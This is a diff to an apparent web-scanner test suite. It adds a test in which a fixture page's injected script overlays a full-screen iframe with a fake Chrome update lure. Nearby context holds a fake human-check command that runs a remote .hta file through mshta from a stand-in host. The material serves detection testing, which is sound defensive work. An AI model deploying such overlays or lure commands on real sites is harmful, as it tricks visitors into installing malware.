@@ -240,6 +240,17 @@ describe('browser engine: interaction and linked page (real Chromium)', function
     assert.ok(!widget.result.signals.some((s) => s.id === 'credential-password'), JSON.stringify(widget.result.signals.map((s) => s.id)));
   });
 
+  it('a frame a script wrote over a hacked page (document.write into an about:blank iframe) is read as what the visitor sees', async () => {
+    const overlay = '<h1>An error occurred in Chrome</h1><p>Your version of Chrome is out of date and can no longer display this page. To continue, install the latest update.</p><a href="/dl/Chrome.Update.zip">Update Chrome</a>';
+    routes.set('/regatta/', html(`<!doctype html><title>Spring regatta</title><body><article><h1>Spring regatta</h1><p>${'Entries are open for masters and junior crews. '.repeat(30)}</p></article>
+      <script>var f=document.createElement('iframe');f.style.cssText='position:fixed;inset:0;width:100%;height:100%;border:0;background:#fff';document.body.appendChild(f);var d=f.contentDocument;d.open();d.write(${JSON.stringify(overlay)});d.close();</script>`));
+    const { input, result } = await scan(at('rowing-club.test', '/regatta/'));
+    assert.deepEqual(input.coveringFrames, ['about:blank']);
+    const written = input.fetchedTexts?.find((t) => t.url === 'about:blank');
+    assert.match(written?.text ?? '', /An error occurred in Chrome/, JSON.stringify(input.fetchedTexts?.map((t) => t.url)));
+    assert.ok(result.signals.some((s) => s.id === 'malware-lure-text'), JSON.stringify(result.signals.map((s) => s.id)));
+  });
+
   it('a fake human check in a frame that covers a hacked page: the check is clicked in the frame, its clipboard write recorded, the frame after the click analysed', async () => {
     const command = 'mshta https://verify-cdn.test/v.hta # Cloudflare Verification ID: 4417';
     routes.set('/check', html(`<!doctype html><title>Verification</title><body style="margin:0;font-family:sans-serif">
